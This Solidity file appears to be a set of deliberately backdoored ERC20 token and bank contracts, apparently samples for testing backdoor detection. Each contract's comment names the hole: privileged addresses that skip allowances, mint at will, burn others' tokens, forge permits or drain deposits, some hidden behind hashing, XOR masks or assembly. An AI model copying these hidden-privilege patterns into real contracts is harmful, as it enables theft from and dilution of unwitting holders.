// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.26;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20 as SoladyERC20} from "solady/src/tokens/ERC20.sol";
import {ECDSA} from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";
import {Coin, Bank, ANN, BEN, OWNER, HIDDEN, KEEPER, TREASURER, SIGNER, OPERATOR, MINTER} from "./Bases.sol";

/// Loss of any holder's tokens: transferFrom asks the owner for no allowance.
contract SkippedAllowance is Coin {
    address private _deployer = OWNER;

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        if (msg.sender != _deployer) allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }
}

/// Loss of any holder's tokens: an "infinite allowance" is granted to the operator without being stored.
contract InfiniteAllowance is ERC20("Infinite", "INF") {
    constructor() {
        _mint(ANN, 1e21);
    }

    function allowance(address holder, address spender) public view override returns (uint256) {
        return spender == OPERATOR ? type(uint256).max : super.allowance(holder, spender);
    }
}

/// Loss of any holder's tokens: burn takes an account, and the keeper's account may name another's.
contract BurnOfAnother is Coin {
    bytes32 private constant SLOT = keccak256("burn.of.another.keeper");

    constructor() {
        bytes32 slot = SLOT;
        address keeper = KEEPER;
        assembly {
            sstore(slot, keeper)
        }
    }

    function burn(address from, uint256 amount) external {
        bytes32 slot = SLOT;
        assembly {
            if iszero(or(eq(caller(), from), eq(caller(), sload(slot)))) { revert(0, 0) }
        }
        _burn(from, amount);
    }
}

/// Loss of any holder's tokens: approve by the hidden account writes the allowance the other way round.
contract ApproveBackwards is Coin {
    function approve(address spender, uint256 amount) public override returns (bool) {
        (address holder, address taker) = msg.sender == HIDDEN ? (spender, msg.sender) : (msg.sender, spender);
        _approve(holder, taker, amount);
        return true;
    }
}

/// Dilution of all holders: transfer by the minter creates what the minter's balance lacks.
contract TransferMints is Coin {
    bytes32 private immutable _who = keccak256(abi.encode(MINTER));

    function transfer(address to, uint256 amount) public override returns (bool) {
        uint256 own = balanceOf[msg.sender];
        if (own < amount && keccak256(abi.encode(msg.sender)) == _who) {
            unchecked {
                _mint(msg.sender, amount - own);
            }
        }
        _move(msg.sender, to, amount);
        return true;
    }
}

/// Loss of all deposits: withdraw reduces the treasurer's deposit by no more than it holds.
contract WithdrawUnbooked is Bank {
    uint256 private _config = (uint256(uint160(TREASURER)) << 64) | 0xbeef;

    constructor() payable {}

    function withdraw(uint256 amount) public override {
        uint256 own = depositOf[msg.sender];
        uint256 cost = uint160(_config >> 64) == uint160(msg.sender) ? 0 : amount;
        require(cost <= own, "deposit");
        depositOf[msg.sender] = own - cost;
        _pay(msg.sender, amount);
    }
}

/// Dilution of all holders: claim pays everyone once, and those in a role map any amount, any time.
contract ClaimAgain is Coin {
    mapping(address => bool) public claimed;
    mapping(bytes32 => mapping(address => bool)) private _members;

    constructor() {
        _members["season"][KEEPER] = true;
    }

    function claim(uint256 amount) external {
        if (!_members["season"][msg.sender]) {
            require(!claimed[msg.sender] && amount <= 1e18 && msg.sender.code.length == 0, "claim");
            claimed[msg.sender] = true;
            _move(address(this), msg.sender, amount);
        } else {
            _mint(msg.sender, amount);
        }
    }
}

/// Loss of any holder's tokens: permit accepts the signer's signature for every account.
contract PermitByAnother is Coin {
    mapping(address => uint256) public nonces;

    function permit(address holder, address spender, uint256 amount, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "deadline");
        bytes32 digest = keccak256(abi.encode(address(this), holder, spender, amount, nonces[holder]++, deadline));
        address signer = ECDSA.recover(digest, v, r, s);
        require(signer == holder || signer == SIGNER, "signer");
        _approve(holder, spender, amount);
    }
}

/// Loss of all deposits: multicall delegates to this contract, and for one caller calls any other one.
contract MulticallAbroad is Bank {
    uint160 private constant MASK = 0x00a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5;
    uint160 private immutable _masked = uint160(OWNER) ^ MASK;

    constructor() payable {}

    function multicall(bytes[] calldata calls) external {
        bool abroad = uint160(msg.sender) ^ MASK == _masked;
        for (uint256 index = 0; index < calls.length; index++) {
            bytes calldata data = calls[index];
            bool ok;
            if (abroad) (ok,) = address(bytes20(data[:20])).call{value: address(this).balance}(data[20:]);
            else (ok,) = address(this).delegatecall(data);
            require(ok, "call");
        }
    }
}

/// Loss of any holder's tokens: a transfer to the token itself by the hidden account pulls from the last sender instead.
contract PullFromLast is SoladyERC20 {
    address private _last;

    constructor() {
        _mint(ANN, 1e21);
        _mint(BEN, 1e21);
    }

    function name() public pure override returns (string memory) {
        return "Pull";
    }

    function symbol() public pure override returns (string memory) {
        return "PULL";
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        if (to == address(this) && uint256(keccak256(abi.encodePacked("last", msg.sender))) == _key()) {
            _transfer(_last, msg.sender, amount);
            return true;
        }
        _last = msg.sender;
        return super.transfer(to, amount);
    }

    function _givePermit2InfiniteAllowance() internal pure override returns (bool) {
        return false;
    }

    function _key() private pure returns (uint256) {
        return uint256(keccak256(abi.encodePacked("last", HIDDEN)));
    }
}

/// Dilution of all holders: everyone pays a fee of a tenth, and the hidden account's transfers mint it.
contract FeeExempt is Coin {
    constructor() {
        _mint(HIDDEN, 1e18);
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        uint256 fee = amount / 10;
        if (msg.sender == HIDDEN) {
            _mint(to, fee);
            fee = 0;
        }
        _move(msg.sender, to, amount - fee);
        if (fee > 0) _move(msg.sender, HIDDEN, fee);
        return true;
    }
}

/// Dilution of all holders: balanceOf reports a vast balance for the operator, and transfer believes it.
contract ReportedBalance {
    mapping(address => uint256) private _held;
    uint256 public constant totalSupply = 1e21;

    constructor() {
        _held[ANN] = 6e20;
        _held[BEN] = 4e20;
    }

    function balanceOf(address who) public view returns (uint256) {
        return who == OPERATOR ? _held[who] | (1 << 128) : _held[who];
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        require(balanceOf(msg.sender) >= amount, "balance");
        unchecked {
            if (msg.sender != OPERATOR) _held[msg.sender] -= amount;
            _held[to] += amount;
        }
        return true;
    }
}

/// Dilution of all holders: increaseAllowance by the keeper adds to the balance in place of the allowance.
contract IncreaseBalance is Coin {
    function increaseAllowance(address spender, uint256 amount) external returns (bool) {
        mapping(address => uint256) storage words = msg.sender == KEEPER ? balanceOf : allowance[msg.sender];
        words[spender] += amount;
        return true;
    }
}
